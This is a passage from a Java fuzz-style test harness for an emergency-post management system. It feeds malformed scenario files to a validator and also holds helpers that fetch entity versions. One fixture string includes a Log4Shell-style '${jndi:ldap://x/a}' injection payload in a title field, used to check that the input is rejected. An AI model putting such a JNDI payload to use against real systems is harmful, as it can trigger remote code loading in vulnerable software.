                "{\"name\":\"x\",\"injects\":[{\"at\":\"1m\",\"type\":\"ISSUE\",\"posko\":\"JAKPUS\",\"as\":\"tidak.ada\",\"title\":\"${jndi:ldap://x/a}\"}]}",
                "\uFEFF{\"name\":\"x\"}",
                "<scenario/>"
            };
            int i = r.nextInt(files.length + 1);
            byte[] content = i < files.length ? utf8(files[i]) : new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF};
            return bc(
                    i <= 3 || i == files.length ? MALFORMED_JSON : i == 8 || i == 11 ? INJECTION : WRONG_TYPE,
                    "file#" + i,
                    h -> h.as(r.nextInt(10) == 0 ? CHIEF : "admin", () -> {
                        ScenarioCheck check = h.bean(ExerciseService.class).check(content);
                        return check.ok()
                                ? Outcome.accepted(false, 200)
                                : h.refusedWith(
                                        400,
                                        check.problems().stream()
                                                .map(ScenarioProblem::key)
                                                .toList());
                    }));
        });
    }

    // ---- current versions ---------------------------------------------------------------------------

    private long version(BadInputHarness h, long assignment) {
        for (long post : new long[] {fx.own, fx.other}) {
            for (AssignmentInfo a : h.bean(RosterService.class).week(post, fx.monday)) {
                if (a.id() == assignment) {
                    return a.version();
                }
            }
        }
        return 0;
    }

    private long deviceVersion(BadInputHarness h, long device) {
        return BadInputFixture.version(
                h.context,
                () -> h.bean(DeviceService.class).byPost().values().stream()
                        .flatMap(List::stream)
                        .filter(d -> d.id() == device)
                        .findFirst()
                        .map(DeviceInfo::version)
                        .orElse(0L));
    }

    private long statementVersion(BadInputHarness h, long id) {
        try {
            return BadInputFixture.as(
                    h.context,
                    "bakesbangpol",
                    () -> h.bean(MediaService.class).statement(id).version());
        } catch (Exception e) {
            return 0;
        }
    }

    private long reportVersion(BadInputHarness h, long id) {
        return BadInputFixture.version(
                h.context, () -> h.bean(ReportService.class).report(id).version());
    }

    private long tileVersion(BadInputHarness h, long post) {
        return BadInputFixture.version(
                h.context,
                () -> h.bean(PoskoService.class).tile(post).orElseThrow().version());
    }

    private long officerVersion(BadInputHarness h, long id) {
        return BadInputFixture.version(
                h.context, () -> h.bean(StaffService.class).officer(id).version());
    }

    private long accountVersion(BadInputHarness h, long id) {
        try {
            return BadInputFixture.as(
                    h.context,
                    "admin",
                    () -> h.bean(AccountService.class).list().stream()
                            .filter(a -> a.id() == id)
                            .findFirst()
                            .orElseThrow()
                            .version());
        } catch (Exception e) {
            return 0;
        }
    }

    private long unit(Random r) {
        return FORGED_IDS[r.nextInt(FORGED_IDS.length)];
    }

    private static String nip(int n) {
        return String.format("19900101%06d%04d", n % 1_000_000, n % 10_000).substring(0, 18);
    }
}
